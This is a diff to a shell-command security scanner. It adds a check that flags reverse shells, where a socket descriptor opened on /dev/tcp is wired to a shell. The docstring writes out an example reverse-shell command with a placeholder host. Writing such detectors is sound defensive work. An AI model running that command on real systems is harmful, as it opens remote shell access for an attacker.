@@ -503,3 +503,30 @@ def check_download_then_run(views: list[CommandView]) -> Iterator[ShellFinding]:
                 "critical",
                 f"{view.name} executes a file downloaded in the same command",
             )
+
+
+def check_socket_descriptors(views: list[CommandView]) -> Iterator[ShellFinding]:
+    """`exec 3<>/dev/tcp/h/p; sh <&3 >&3`: a descriptor opened on a socket, later wired to a shell."""
+    sockets = {
+        r.fd or ("1" if ">" in r.op else "0")
+        for view in views
+        for r in view.exec.redirects
+        if r.target is not None and r.target.text.startswith(("/dev/tcp/", "/dev/udp/"))
+    }
+    if not sockets:
+        return
+    for view in views:
+        shell = view.name in SHELLS or view.name in INTERPRETERS
+        peers = [
+            view,
+            *(CommandView(e) for e in (*upstream_closure(view.exec), *consumer_closure(view.exec))),
+        ]
+        wired = any(
+            "&" in r.op and r.target is not None and r.target.text in sockets
+            for peer in peers
+            for r in peer.exec.redirects
+        )
+        if shell and wired:
+            yield finding("exfiltration", "reverse-shell", "block", "critical",
+                          f"{view.name} is wired to a socket descriptor")  # fmt: skip
+            return
